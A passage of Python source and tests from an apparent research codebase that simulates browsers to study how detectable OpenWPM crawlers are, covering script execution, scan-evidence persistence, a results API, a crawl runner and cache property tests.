        history = JSObject(proto=history_proto, class_name="History")
        history.put("length", 1.0, enumerable=False)
        self.window_object.put("history", history, enumerable=False)

    # ------------------------------------------------------------------
    def _install_frames_accessors(self) -> None:
        window = self.window_object

        def frames_getter(interp, this, args):
            return self.realm.new_array([
                frame.window_object for frame in self.child_frames])

        self._accessor(window, "frames", frames_getter, enumerable=False)
        self._value_accessor(
            window, "top",
            self.top_window().window_object
            if self.parent is not None else window, enumerable=False)
        window.put("parent",
                   self.parent.window_object if self.parent is not None
                   else window, enumerable=False)

    def top_window(self) -> "BrowserWindow":
        node = self
        while node.parent is not None:
            node = node.parent
        return node

    # ==================================================================
    # Script execution
    # ==================================================================
    def run_script(self, source: str, script_url: str = "inline",
                   raise_errors: bool = False,
                   via_eval: bool = False) -> Any:
        """Execute page JavaScript; errors are captured per-visit."""
        self.browser.note_script_execution(self, script_url, source,
                                           via_eval=via_eval)
        try:
            return self.interp.run(source, script_url)
        except (JSError, ExecutionBudgetExceeded) as exc:
            if raise_errors:
                raise
            self.browser.script_errors.append(
                ScriptExecutionError(script_url, str(exc)))
            return UNDEFINED

    def run_script_with_scope(self, source: str,
                              script_url: str) -> Scope:
        """Run a script and return its top-level scope (extension use)."""
        from repro.jsengine.interpreter import parse_cached

        program = parse_cached(source)
        scope = Scope(function_scope=True)
        return self.interp.run_program_in_scope(
            program, scope, script_url, self.window_object)

    # ==================================================================
    # Host hooks called by the DOM
    # ==================================================================
    def handle_element_attached(self, element: Element,
                                interp: Any = None) -> None:
        if isinstance(element, ScriptElement) and not element.executed:
            element.executed = True
            self._execute_script_element(element)
        elif isinstance(element, IFrameElement) \
                and element.content_window is None:
            self.load_iframe(element, interp)
        elif element.tag_name == "img" and element.attributes.get("src"):
            self.issue_request(element.attributes["src"], ResourceType.IMAGE)
        elif element.tag_name == "link" \
                and element.attributes.get("rel") == "stylesheet" \
                and element.attributes.get("href"):
            self.issue_request(element.attributes["href"],
                               ResourceType.STYLESHEET)

    def _execute_script_element(self, element: ScriptElement) -> None:
        csp = self.document.csp
        if element.src:
            try:
                script_url = URL.parse(element.src, base=self.url)
            except ValueError:
                return
            if not csp.allows_script_url(script_url, self.url):
                self.report_csp_violation("script-src", str(script_url))
                return
            response = self.issue_request(str(script_url),
                                          ResourceType.SCRIPT)
            if response is None or response.status != 200:
                return
            source = None
            if response.script is not None:
                source = response.script.source
            elif "javascript" in response.content_type:
                source = response.body
            if source is not None:
                self.run_script(source, script_url=str(script_url))
        else:
            source = element.text_content
            if not source.strip():
                return
            if not csp.allows_inline_script():
                self.report_csp_violation("script-src", "inline")
                return
            self.run_script(source,
                            script_url=f"{self.url}#inline")

    def handle_document_write(self, html: str, interp: Any = None) -> None:
        self.document.write(html, interp)

    def load_iframe(self, iframe: IFrameElement, interp: Any = None) -> None:
        self.browser.load_iframe(self, iframe)

    def get_canvas_context(self, kind: str) -> Optional[JSObject]:
        if kind in ("webgl", "webgl2", "experimental-webgl"):
            return self.webgl_context
        if kind == "2d":
            return self.context_2d
        return None

    # ------------------------------------------------------------------
    def read_document_cookie(self) -> str:
        return self.browser.cookie_jar.document_cookie_for(
            self.url, self.browser.current_time)

    def write_document_cookie(self, text: str) -> None:
        top_host = self.top_window().url.host
        cookie = self.browser.cookie_jar.set_from_document(
            text, self.url, top_host, self.browser.current_time)
        if cookie is not None:
            self.browser.notify_cookie(cookie, "added-js")

    # ------------------------------------------------------------------
    def issue_request(self, target: str,
                      resource_type: str) -> Optional[HttpResponse]:
        """Resolve *target* against this frame and fetch it."""
        try:
            url = URL.parse(target, base=self.url)
        except ValueError:
            return None
        return self.browser.fetch_resource(url, resource_type, frame=self)

    def report_csp_violation(self, directive: str, blocked: str) -> None:
        violation = CSPViolation(page_url=self.url, directive=directive,
                                 blocked=blocked,
                                 report_uri=self.document.csp.report_uri)
        self.browser.report_csp_violation(self, violation)

"""Sidecar persistence for per-site scan evidence (resume support).

The scan pipeline's job queue remembers *which* sites are done, but the
classifications themselves used to live only in the in-memory
:class:`~repro.core.scan.pipeline.ScanDataset` — so a resumed scan
silently returned a dataset missing every site completed by earlier
runs. :class:`ScanResultStore` closes that gap: each worker saves a
site's raw :class:`~repro.core.scan.classify.VisitEvidence` list right
before the job is marked completed, and a resume reloads the evidence
and re-derives the classifications (classification is a pure function
of evidence, so nothing derived needs to be stored).

The store is a second SQLite file next to the queue (``<queue>.scan``),
kept out of both the queue and the crawl database for the same reason
the queue is kept out of the crawl database: bookkeeping must never
perturb crawl-data determinism. Sets are serialized as sorted lists so
the stored JSON is byte-stable under fixed seeds.

Format history: v1 sidecars stored raw script sources inline in the
evidence JSON; v2 stores sha256 content addresses into the
``<queue>.corpus`` script store. A v1 sidecar is *refused* on open
(rather than mis-read as hashes) with instructions to re-run without
``--resume``.
"""

from __future__ import annotations

import json
import sqlite3
import threading
from typing import Dict, List

from repro.core.scan.classify import VisitEvidence

#: Sidecar format: 2 = script entries are corpus content addresses.
STORE_FORMAT = 2

_SCHEMA = """
CREATE TABLE IF NOT EXISTS scan_results (
    domain TEXT PRIMARY KEY,
    evidence_json TEXT NOT NULL
);
CREATE TABLE IF NOT EXISTS scan_store_meta (
    key TEXT PRIMARY KEY,
    value TEXT NOT NULL
);
"""


class ScanStoreFormatError(RuntimeError):
    """The sidecar on disk uses an incompatible (pre-corpus) format."""


def evidence_to_dict(evidence: VisitEvidence) -> Dict[str, object]:
    """One visit's evidence as JSON-ready plain data."""
    return {
        "page_url": evidence.page_url,
        "scripts": [[url, source] for url, source in evidence.scripts],
        "webdriver_accessors": sorted(evidence.webdriver_accessors),
        "residue_accessors": {
            script: sorted(props)
            for script, props in sorted(evidence.residue_accessors.items())},
        "honey_hits": {
            script: sorted(props)
            for script, props in sorted(evidence.honey_hits.items())},
    }


def evidence_from_dict(data: Dict[str, object]) -> VisitEvidence:
    return VisitEvidence(
        page_url=str(data["page_url"]),
        scripts=[(url, source) for url, source in data.get("scripts", [])],
        webdriver_accessors=set(data.get("webdriver_accessors", [])),
        residue_accessors={
            script: set(props) for script, props
            in dict(data.get("residue_accessors", {})).items()},
        honey_hits={
            script: set(props) for script, props
            in dict(data.get("honey_hits", {})).items()},
    )


def store_path_for(queue_path: str) -> str:
    """The sidecar path for a queue file (in-memory stays in-memory)."""
    if queue_path == ":memory:":
        return ":memory:"
    return queue_path + ".scan"


class ScanResultStore:
    """SQLite-backed map of domain -> persisted visit-evidence list."""

    def __init__(self, path: str = ":memory:") -> None:
        self.path = path
        self._lock = threading.Lock()
        self._conn = sqlite3.connect(path, check_same_thread=False)
        self._conn.row_factory = sqlite3.Row
        if path != ":memory:":
            # Same concurrency posture as the crawl database: WAL lets
            # read-only inspectors open the sidecar while a scan is
            # still appending evidence.
            self._conn.execute("PRAGMA journal_mode = WAL")
            self._conn.execute("PRAGMA busy_timeout = 10000")
        with self._lock:
            self._check_format()
            self._conn.executescript(_SCHEMA)
            self._conn.execute(
                "INSERT OR REPLACE INTO scan_store_meta (key, value) "
                "VALUES ('format', ?)", (str(STORE_FORMAT),))
            self._conn.commit()

    def _check_format(self) -> None:
        """Refuse sidecars written before the content-addressed corpus.

        v1 stored raw sources where v2 stores hashes; reading one as
        the other would silently classify on garbage, so the mismatch
        is a hard error.
        """
        tables = {row["name"] for row in self._conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table'")}
        if "scan_results" not in tables:
            return  # fresh file
        if "scan_store_meta" not in tables:
            raise ScanStoreFormatError(
                f"scan sidecar {self.path!r} uses the old raw-source "
                "format (pre-corpus, no format marker); its evidence "
                "cannot be resolved against a script corpus — re-run "
                "the scan without --resume to rebuild it")
        row = self._conn.execute(
            "SELECT value FROM scan_store_meta WHERE key = 'format'"
        ).fetchone()
        if row is None or int(row["value"]) != STORE_FORMAT:
            found = "missing" if row is None else row["value"]
            raise ScanStoreFormatError(
                f"scan sidecar {self.path!r} has format {found}, "
                f"expected {STORE_FORMAT}; re-run the scan without "
                "--resume to rebuild it")

    def save(self, domain: str, evidences: List[VisitEvidence]) -> None:
        payload = json.dumps([evidence_to_dict(e) for e in evidences],
                             sort_keys=True)
        with self._lock:
            self._conn.execute(
                "INSERT OR REPLACE INTO scan_results "
                "(domain, evidence_json) VALUES (?, ?)", (domain, payload))
            self._conn.commit()

    def load_all(self) -> Dict[str, List[VisitEvidence]]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT domain, evidence_json FROM scan_results "
                "ORDER BY domain").fetchall()
        return {row["domain"]: [evidence_from_dict(item) for item
                                in json.loads(row["evidence_json"])]
                for row in rows}

    def domains(self) -> List[str]:
        with self._lock:
            return [row["domain"] for row in self._conn.execute(
                "SELECT domain FROM scan_results ORDER BY domain")]

    def delete(self, domain: str) -> None:
        with self._lock:
            self._conn.execute(
                "DELETE FROM scan_results WHERE domain = ?", (domain,))
            self._conn.commit()

    def clear(self) -> None:
        with self._lock:
            self._conn.execute("DELETE FROM scan_results")
            self._conn.commit()

    def close(self) -> None:
        with self._lock:
            self._conn.commit()
            self._conn.close()

"""Tests for the serve query layer: endpoints, cache wiring, and the
reader/writer concurrency contract.

The concurrency class is the paper-facing claim: measurement results
can be inspected *while the crawl is still running* without the
readers ever seeing ``database is locked`` or a torn aggregate state —
WAL snapshots plus read-only per-thread connections, with the rollup
generation exposing exactly which state an answer came from.
"""

import json
import os
import sqlite3
import threading
import urllib.request

import pytest

from repro.obs.runner import run_telemetry_crawl
from repro.serve import ResultServer, ServeError, verify
from repro.serve.api import json_get


def decode(response):
    return json.loads(response.body.decode("utf-8"))


class TestEndpoints:
    @pytest.fixture(scope="class")
    def server(self, tmp_path_factory):
        tmp = tmp_path_factory.mktemp("serve-api")
        db_path = str(tmp / "crawl.db")
        result = run_telemetry_crawl(
            site_count=8, seed=7, database_path=db_path,
            crash_probability=0.0, browsers=1, web="lab")
        result.close()
        server = ResultServer(db_path)
        yield server
        server.close()

    def test_missing_database_is_a_serve_error(self, tmp_path):
        with pytest.raises(ServeError):
            ResultServer(str(tmp_path / "nope.db"))

    def test_healthz_reports_fresh(self, server):
        response = server.respond("/healthz")
        assert response.status == 200
        payload = decode(response)
        assert payload["rollups"] == "fresh"
        assert payload["generation"] == response.generation > 0
        assert payload["sites"] == 8

    def test_sites_listing_is_sorted(self, server):
        payload = decode(server.respond("/sites"))
        assert payload["count"] == 8
        assert payload["sites"] == sorted(payload["sites"])

    def test_site_verdict_card(self, server):
        url = decode(server.respond("/sites"))["sites"][0]
        response = server.respond("/site", f"url={url}")
        assert response.status == 200
        payload = decode(response)
        assert payload["site_url"] == url
        assert payload["verdicts"]["visited"] is True
        assert payload["counters"]["visits"] >= 1

    def test_site_requires_exactly_one_url(self, server):
        assert server.respond("/site").status == 400
        assert server.respond("/site", "url=a&url=b").status == 400

    def test_unknown_site_is_404(self, server):
        response = server.respond("/site", "url=https://nope.test/")
        assert response.status == 404

    def test_aggregates_and_unknown_aggregate(self, server):
        response = server.respond("/aggregates/totals")
        assert response.status == 200
        assert decode(response)["totals"]["site_visits"] == 8
        response = server.respond("/aggregates/bogus")
        assert response.status == 404
        assert "known" in decode(response)

    def test_unknown_corpus_hash_is_404(self, server):
        assert server.respond("/corpus/" + "0" * 64).status == 404

    def test_unknown_route_is_404(self, server):
        assert server.respond("/bogus").status == 404

    def test_metrics_exposes_prometheus_text(self, server):
        server.respond("/aggregates/totals")
        response = server.respond("/metrics")
        assert response.status == 200
        assert response.content_type.startswith("text/plain")
        assert b"serve_requests_total" in response.body

    def test_cache_serves_repeat_requests(self, server):
        server.cache.clear()
        first = server.respond("/aggregates/symbols")
        hits_before = server.cache.stats()["hits"]
        second = server.respond("/aggregates/symbols")
        assert second.body == first.body
        assert server.cache.stats()["hits"] == hits_before + 1

    def test_http_transport_sets_generation_header(self, server):
        port = server.start()
        url = f"http://127.0.0.1:{port}/aggregates/totals"
        with urllib.request.urlopen(url, timeout=10) as response:
            generation = int(response.headers["X-Rollup-Generation"])
            payload = json.loads(response.read())
        assert generation > 0
        assert payload["totals"]["site_visits"] == 8
        status, payload = json_get(
            f"http://127.0.0.1:{port}/aggregates/bogus")
        assert status == 404 and "known" in payload

    def test_ensure_backfills_a_stale_database(self, tmp_path):
        db_path = str(tmp_path / "cold.db")
        os.environ["REPRO_ROLLUPS"] = "off"
        try:
            result = run_telemetry_crawl(
                site_count=4, seed=7, database_path=db_path,
                crash_probability=0.0, browsers=1, web="lab")
            result.close()
        finally:
            del os.environ["REPRO_ROLLUPS"]
        server = ResultServer(db_path, ensure=False)
        try:
            assert server.respond("/aggregates/totals").status == 503
            assert server.respond("/healthz").status == 503
            assert server.ensure_rollups() == "fresh"
            response = server.respond("/aggregates/totals")
            assert response.status == 200
            assert decode(response)["totals"]["site_visits"] == 4
        finally:
            server.close()


class TestLiveCrawlConcurrency:
    READERS = 4

    def test_readers_never_locked_during_proc_crawl(self, tmp_path):
        db_path = str(tmp_path / "live.db")
        queue_path = str(tmp_path / "live.queue")
        crawl_done = threading.Event()
        crawl_error = []

        def crawl():
            try:
                result = run_telemetry_crawl(
                    site_count=30, seed=7, database_path=db_path,
                    crash_probability=0.0, browsers=1, web="lab",
                    worker_procs=2, queue_path=queue_path)
                result.close()
            except Exception as exc:  # pragma: no cover - diagnostics
                crawl_error.append(exc)
            finally:
                crawl_done.set()

        writer = threading.Thread(target=crawl, name="crawl")
        writer.start()
        while not os.path.exists(db_path) and not crawl_done.is_set():
            pass

        # ensure=False: readers must stay strictly read-only while the
        # crawl owns the write path.
        server = ResultServer(db_path, ensure=False, cache_capacity=0)
        locked = []
        generations = {i: [] for i in range(self.READERS)}

        def hammer(reader_id):
            while not crawl_done.is_set():
                for path, query in (("/aggregates/totals", ""),
                                    ("/sites", ""), ("/healthz", "")):
                    try:
                        response = server.respond(path, query)
                    except sqlite3.OperationalError as exc:
                        locked.append((reader_id, repr(exc)))
                        return
                    assert response.status in (200, 503)
                    generations[reader_id].append(response.generation)

        readers = [threading.Thread(target=hammer, args=(i,))
                   for i in range(self.READERS)]
        for thread in readers:
            thread.start()
        writer.join(timeout=300)
        for thread in readers:
            thread.join(timeout=60)
        try:
            assert not crawl_error, crawl_error
            assert not locked, locked
            for reader_id, seen in generations.items():
                assert seen, f"reader {reader_id} never got a response"
                assert seen == sorted(seen), \
                    "rollup generation went backwards"
            # After the crawl the served state is complete and correct.
            response = server.respond("/aggregates/totals")
            assert response.status == 200
            assert decode(response)["totals"]["site_visits"] == 30
            connection = sqlite3.connect(db_path)
            try:
                assert verify(connection)["ok"]
            finally:
                connection.close()
        finally:
            server.close()

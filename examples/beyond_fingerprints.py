#!/usr/bin/env python3
"""Beyond the paper's evaluation: behaviour and engine-level recording.

Demonstrates the two extensions built from the paper's outlook:

1. behavioural (mouse-track) detection — the channel the paper's scan
   does not cover (Sec. 4.1.3) — against framework-default vs
   HLISA-style human-like interaction;
2. the debugger-API-style instrument (Sec. 8 recommendation): records
   everything with zero page-visible footprint.

    python examples/beyond_fingerprints.py
"""

import random

from repro.browser.interaction import (
    BEHAVIOUR_COLLECTOR_SCRIPT,
    HumanLikeInteraction,
    SeleniumInteraction,
    extract_behaviour_track,
    score_pointer_track,
)
from repro.browser.profiles import openwpm_profile
from repro.core.fingerprint import OpenWPMDetector, run_probes
from repro.core.hardening import DebuggerJSInstrument, StealthSettings
from repro.core.lab import make_window, visit_with_scripts
from repro.openwpm import BrowserParams, OpenWPMExtension


def behavioural_demo() -> None:
    print("== Behavioural detection vs interaction style ==")
    for label, driver in [
            ("selenium-default", SeleniumInteraction(random.Random(3))),
            ("human-like", HumanLikeInteraction(random.Random(3)))]:
        _, window = make_window(openwpm_profile("ubuntu", "regular"))
        window.run_script(BEHAVIOUR_COLLECTOR_SCRIPT,
                          script_url="https://site.test/bm.js")
        driver.click(window, "body")
        verdict = score_pointer_track(extract_behaviour_track(window))
        print(f"  {label:<18} -> "
              f"{'BOT' if verdict.is_bot else 'human'}"
              f"  {verdict.reasons}")


def debugger_demo() -> None:
    print("\n== Engine-level (debugger-API-style) instrumentation ==")
    settings = StealthSettings.plausible()
    extension = OpenWPMExtension(
        BrowserParams(stealth=True),
        js_instrument=DebuggerJSInstrument(hide_webdriver=True))
    profile = openwpm_profile("ubuntu", "regular",
                              window_size=settings.window_size,
                              window_position=settings.window_position)
    _, result = visit_with_scripts(profile, ["""
        navigator.userAgent;
        screen.availLeft;
        var ifr = document.createElement('iframe');
        document.body.appendChild(ifr);
        ifr.contentWindow.screen.availLeft;   // same-tick iframe access
    """], extension=extension)
    window = result.top_window

    probes = run_probes(window)
    report = OpenWPMDetector().test_probes(probes)
    print(f"  detector verdict: {report.is_openwpm} "
          f"(matched rules: {report.matched_descriptions()})")
    print(f"  userAgent getter native: {probes['userAgentGetterNative']}, "
          f"prototype polluted: {probes['screenProtoPolluted']}")
    symbols = [r.symbol for r in extension.js_instrument.records
               if not r.script_url.startswith("https://prober")]
    availleft = sum(1 for s in symbols if s == "Screen.availLeft")
    print(f"  records captured: {len(symbols)}; Screen.availLeft "
          f"observed {availleft}x (top window AND same-tick iframe)")


if __name__ == "__main__":
    behavioural_demo()
    debugger_demo()

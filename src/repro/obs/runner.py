"""A fully telemetered crawl, end to end.

``run_telemetry_crawl`` wires a :class:`Telemetry` into a
:class:`TaskManager`, drives it over N sites (the blank lab site by
default, or a synthetic Tranco web), persists the telemetry snapshot
into the crawl database, and hands everything back for reporting. This
is what ``python -m repro stats`` runs when pointed at no existing
database, and what the integration tests and the overhead benchmark
build on.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, List, Optional

from repro.obs.journal import NULL_JOURNAL, Journal
from repro.obs.profiler import ScriptProfiler, install_profiler
from repro.obs.telemetry import Telemetry
from repro.openwpm.config import BrowserParams, ManagerParams
from repro.openwpm.task_manager import TaskManager


@dataclass
class TelemetryCrawlResult:
    """The live handles from one instrumented crawl.

    The manager (and its in-memory database) stays open so callers can
    build reports against it; call :meth:`close` when done.
    """

    manager: TaskManager
    telemetry: Telemetry
    urls: List[str] = field(default_factory=list)
    results: List[object] = field(default_factory=list)
    #: The scheduler's CrawlReport when the crawl ran on worker threads
    #: (``workers`` given); ``None`` for the legacy sequential path.
    report: Optional[object] = None
    #: The crawl's flight recorder (``NULL_JOURNAL`` when not requested).
    journal: Any = NULL_JOURNAL
    #: The JS-engine profiler, when profiling was requested.
    profiler: Optional[ScriptProfiler] = None
    #: The bundle recorder, when ``record_dir`` was given (already
    #: finalized by the runner; kept for inspection).
    recorder: Optional[Any] = None
    #: The source bundle, when this crawl replayed one.
    bundle: Optional[Any] = None

    @property
    def storage(self):
        return self.manager.storage

    def close(self) -> None:
        self.manager.close()
        self.journal.close()
        if self.bundle is not None:
            self.bundle.close()


def _lab_urls(site_count: int) -> List[str]:
    return [f"https://lab.test/site-{i:05d}" for i in range(site_count)]


def run_telemetry_crawl(site_count: int = 1000, seed: int = 7,
                        database_path: str = ":memory:",
                        crash_probability: float = 0.05,
                        browsers: int = 2, dwell: float = 1.0,
                        js_instrument: bool = False,
                        web: str = "lab",
                        telemetry: Optional[Telemetry] = None,
                        workers: Optional[int] = None,
                        worker_procs: Optional[int] = None,
                        heartbeat_seconds: float = 1.0,
                        heartbeat_deadline: Optional[float] = None,
                        respawn_limit: Optional[int] = None,
                        respawn_backoff: float = 0.5,
                        queue_path: str = ":memory:",
                        resume: bool = False,
                        urls: Optional[List[str]] = None,
                        stop_after_jobs: Optional[int] = None,
                        fault_plan: Optional[object] = None,
                        stage_deadline: Optional[float] = None,
                        quarantine_after: Optional[int] = None,
                        crash_loop_threshold: Optional[int] = None,
                        max_attempts: int = 2,
                        lease_seconds: float = 300.0,
                        journal_dir: Optional[str] = None,
                        profile: bool = False,
                        record_dir: Optional[str] = None,
                        replay_dir: Optional[str] = None,
                        shard_dbs: bool = False,
                        pin_cpus: bool = False
                        ) -> TelemetryCrawlResult:
    """Crawl *site_count* sites with full telemetry enabled.

    ``web`` selects the substrate: ``"lab"`` serves distinct paths of
    the blank lab site (fast — the 1K-site reconciliation check runs in
    seconds), ``"tranco"`` builds the synthetic web and visits the top
    ranked domains (slow, full page machinery). ``js_instrument``
    defaults off for the lab crawl because instrumenting every lab page
    dominates runtime; HTTP and cookie instruments still exercise the
    record-accounting path.

    ``workers=None`` keeps the legacy sequential round-robin crawl.
    Any integer routes the crawl through the scheduler instead — one
    worker per browser slot, with ``queue_path``/``resume`` exposing
    the persistent queue and checkpoint/resume (``python -m repro
    crawl``). An explicit ``urls`` list overrides the generated one.

    ``worker_procs`` routes the crawl through the **process** pool
    instead (:mod:`repro.sched.procpool`): N spawned worker processes
    claim from the shared file-backed queue and ship visit records to
    this process's storage broker, under the heartbeat → SIGKILL →
    respawn → shrink supervision ladder tuned by
    ``heartbeat_seconds`` / ``heartbeat_deadline`` /
    ``respawn_limit`` / ``respawn_backoff``. Mutually exclusive with
    ``workers`` and with record/replay (bundle hooks live on the
    coordinator's network object, which workers never touch).
    ``shard_dbs=True`` gives each worker process a private shard
    database merged deterministically at crawl end instead of the
    broker round-trip; ``pin_cpus=True`` pins each worker slot to one
    CPU (both require ``worker_procs``).

    ``fault_plan`` / ``stage_deadline`` / ``quarantine_after`` /
    ``crash_loop_threshold`` wire the fault-injection plan and its
    defenses (watchdog, circuit breaker, crash-loop cooldown) straight
    into the manager — the chaos harness entry point.

    ``journal_dir`` turns on the flight recorder (one JSONL event file
    per worker under that directory); ``profile=True`` installs the
    JS-engine profiler and journals its per-script/per-function op
    aggregates at crawl end.

    ``record_dir`` archives every visit into an execution bundle at
    that path; ``replay_dir`` serves the whole crawl from an existing
    bundle instead of a live web (``urls``/``site_count`` are then
    taken from the bundle). The two compose: replaying with
    ``record_dir`` set re-records the replay, which is how ``repro
    fidelity`` gets its comparison bundle.
    """
    if worker_procs is not None:
        if workers is not None:
            raise ValueError(
                "workers and worker_procs are mutually exclusive")
        if record_dir is not None or replay_dir is not None:
            raise ValueError(
                "worker_procs cannot record or replay bundles: the "
                "bundle hooks attach to the coordinator's network, "
                "which worker processes never touch")
    elif shard_dbs or pin_cpus:
        raise ValueError(
            "--shard-dbs/--pin-cpus require --worker-procs (they "
            "configure the worker processes)")
    telemetry = telemetry if telemetry is not None else Telemetry()
    journal: Any = NULL_JOURNAL
    if journal_dir is not None and telemetry.enabled:
        # Attached before anything runs — and before any resume
        # restore() below — so every metric increment of this run is
        # journalled and the delta-sum reconciliation stays exact.
        journal = Journal(journal_dir, telemetry.clock)
        telemetry.attach_journal(journal)
    profiler: Optional[ScriptProfiler] = None
    previous_profiler = None
    if profile:
        profiler = ScriptProfiler()
        previous_profiler = install_profiler(profiler)
    bundle = None
    if replay_dir is not None:
        from repro.bundles import Bundle, ReplayNetwork

        bundle = Bundle(replay_dir)
        network = ReplayNetwork(bundle, telemetry=telemetry)
        if urls is None:
            urls = list(bundle.sites())
    elif web == "tranco":
        from repro.web import build_world

        world = build_world(site_count=site_count, seed=seed)
        network = world.network
        if urls is None:
            urls = world.front_urls(site_count)
    else:
        from repro.core.lab import make_lab_network

        network = make_lab_network()
        if urls is None:
            urls = _lab_urls(site_count)

    recorder = None
    if record_dir is not None:
        from repro.bundles import BundleRecorder

        recorder = BundleRecorder(
            record_dir, kind="crawl",
            params={"site_count": site_count, "seed": seed,
                    "browsers": browsers, "dwell": dwell,
                    "js_instrument": js_instrument, "web": web,
                    "replay_of": replay_dir},
            sites=urls, telemetry=telemetry)
        network.recorder = recorder

    manager = TaskManager(
        ManagerParams(num_browsers=browsers,
                      database_path=database_path,
                      crash_probability=crash_probability,
                      fault_plan=fault_plan,
                      stage_deadline_seconds=stage_deadline,
                      quarantine_after=quarantine_after,
                      crash_loop_threshold=crash_loop_threshold,
                      seed=seed),
        [BrowserParams(browser_id=i, seed=seed + i, dwell_time=dwell,
                       js_instrument=js_instrument,
                       save_content=None if web == "lab" else "script")
         for i in range(browsers)],
        network, telemetry=telemetry)
    manager.recorder = recorder
    report = None
    results: List[object] = []
    try:
        if worker_procs is not None:
            from repro.sched.procpool import (
                DEFAULT_HEARTBEAT_DEADLINE,
                DEFAULT_RESPAWN_LIMIT,
                run_process_crawl,
            )

            if resume and telemetry.enabled:
                telemetry.metrics.restore(
                    manager.storage.telemetry_metrics())
            report = run_process_crawl(
                manager, urls, queue_path=queue_path,
                worker_procs=worker_procs, web=web,
                site_count=site_count, world_seed=seed,
                resume=resume, stop_after_jobs=stop_after_jobs,
                max_attempts=max_attempts,
                lease_seconds=lease_seconds, journal_dir=journal_dir,
                heartbeat_seconds=heartbeat_seconds,
                heartbeat_deadline=heartbeat_deadline
                if heartbeat_deadline is not None
                else DEFAULT_HEARTBEAT_DEADLINE,
                respawn_limit=respawn_limit
                if respawn_limit is not None
                else DEFAULT_RESPAWN_LIMIT,
                respawn_backoff=respawn_backoff,
                shard_dbs=shard_dbs, pin_cpus=pin_cpus)
        elif workers is None:
            results = manager.crawl(urls)
        else:
            if resume and telemetry.enabled:
                # Carry the previous runs' persisted counters forward
                # so the final snapshot stays cumulative over the whole
                # database — otherwise a resumed crawl's books can
                # never balance.
                telemetry.metrics.restore(
                    manager.storage.telemetry_metrics())
            report = manager.crawl_scheduled(
                urls, workers=workers, queue_path=queue_path,
                resume=resume, stop_after_jobs=stop_after_jobs,
                max_attempts=max_attempts, lease_seconds=lease_seconds)
    finally:
        if profile:
            install_profiler(previous_profiler)
    if profiler is not None:
        for entry in profiler.hot_scripts():
            journal.emit("profile_script", **entry)
        for entry in profiler.hot_functions():
            journal.emit("profile_function", **entry)
    if recorder is not None:
        # A bundle is only marked complete when every site's visits
        # were archived; anything less stays ``status: recording`` and
        # replay refuses it with the missing sites named.
        drained = report.drained if report is not None else True
        recorder.close(complete=bool(drained)
                       and not manager.failed_sites)
    journal.flush()
    # Snapshot now (close() would too, but callers report before closing).
    manager.storage.persist_telemetry(telemetry.snapshot())
    return TelemetryCrawlResult(manager=manager, telemetry=telemetry,
                                urls=urls, results=results, report=report,
                                journal=journal, profiler=profiler,
                                recorder=recorder, bundle=bundle)

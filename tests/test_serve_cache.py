"""Hypothesis property tests for the serve response cache.

The cache's contract (generation safety, bounded capacity, monotone
TTL expiry — see :mod:`repro.serve.cache`) is exactly the kind of
invariant a few example-based tests under-cover: correctness depends
on the interleaving of puts, gets under mismatched generations, clock
advances, and LRU evictions. These properties drive random op
sequences against a virtual clock and check the contract holds at
every step.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

import pytest

from repro.obs.clock import VirtualClock
from repro.serve.cache import ResponseCache

keys = st.text(alphabet="abcd", min_size=1, max_size=2)
generations = st.integers(min_value=0, max_value=3)
op_sequences = st.lists(st.one_of(
    st.tuples(st.just("put"), keys, generations, st.binary(max_size=4)),
    st.tuples(st.just("get"), keys, generations),
    st.tuples(st.just("tick"),
              st.floats(min_value=0.0, max_value=100.0,
                        allow_nan=False)),
), max_size=60)


def fresh_cache(capacity=8, ttl=30.0):
    clock = VirtualClock(tick=0.0)
    return ResponseCache(capacity=capacity, ttl=ttl, clock=clock), clock


class TestGenerationSafety:
    @given(op_sequences)
    @settings(max_examples=200)
    def test_hits_always_match_generation_and_last_put(self, sequence):
        """A returned entry was stored under exactly the queried
        generation and carries the most recent body for its key —
        never a stale or cross-generation answer."""
        cache, clock = fresh_cache()
        last_put = {}
        gets = hits = 0
        for op in sequence:
            if op[0] == "put":
                _, key, gen, body = op
                cache.put(key, gen, body)
                last_put[key] = (gen, body)
            elif op[0] == "get":
                _, key, gen = op
                gets += 1
                entry = cache.get(key, gen)
                if entry is not None:
                    hits += 1
                    assert entry.generation == gen
                    assert last_put[key] == (gen, entry.body)
            else:
                clock.advance(op[1])
        stats = cache.stats()
        assert stats["hits"] == hits
        assert stats["hits"] + stats["misses"] == gets

    @given(keys, generations)
    def test_generation_mismatch_drops_the_entry(self, key, gen):
        cache, _ = fresh_cache()
        cache.put(key, gen, b"body")
        assert cache.get(key, gen + 1) is None
        # The mismatch evicted it: the original generation is gone too.
        assert cache.get(key, gen) is None
        assert cache.stats()["invalidations"] == 1


class TestCapacity:
    @given(op_sequences, st.integers(min_value=0, max_value=4))
    @settings(max_examples=200)
    def test_size_never_exceeds_capacity(self, sequence, capacity):
        cache, clock = fresh_cache(capacity=capacity)
        for op in sequence:
            if op[0] == "put":
                cache.put(op[1], op[2], op[3])
            elif op[0] == "get":
                cache.get(op[1], op[2])
            else:
                clock.advance(op[1])
            assert len(cache) <= capacity

    @given(st.lists(keys, unique=True, min_size=3, max_size=4))
    def test_eviction_is_least_recently_used_first(self, distinct):
        cache, _ = fresh_cache(capacity=2)
        for key in distinct:
            cache.put(key, 1, b"x")
        assert cache.keys() == tuple(distinct[-2:])
        # A get refreshes recency, so the *other* entry is evicted.
        cache.get(distinct[-2], 1)
        cache.put("zz", 1, b"x")
        assert cache.keys() == (distinct[-2], "zz")

    def test_zero_capacity_stores_nothing(self):
        cache, _ = fresh_cache(capacity=0)
        entry = cache.put("k", 1, b"x")
        assert entry.body == b"x"  # pass-through for the caller
        assert len(cache) == 0 and cache.get("k", 1) is None

    def test_rejects_invalid_parameters(self):
        with pytest.raises(ValueError):
            ResponseCache(capacity=-1)
        with pytest.raises(ValueError):
            ResponseCache(ttl=0.0)


class TestTTLMonotone:
    @given(st.lists(st.floats(min_value=0.0, max_value=20.0,
                              allow_nan=False),
                    min_size=1, max_size=10))
    @settings(max_examples=200)
    def test_once_expired_always_expired(self, advances):
        """An entry is served until exactly ``ttl`` virtual seconds
        after storage and never again after — expiry cannot flap."""
        cache, clock = fresh_cache(capacity=4, ttl=30.0)
        cache.put("k", 1, b"v")
        elapsed = 0.0
        expired = False
        for step in advances:
            clock.advance(step)
            elapsed += step
            entry = cache.get("k", 1)
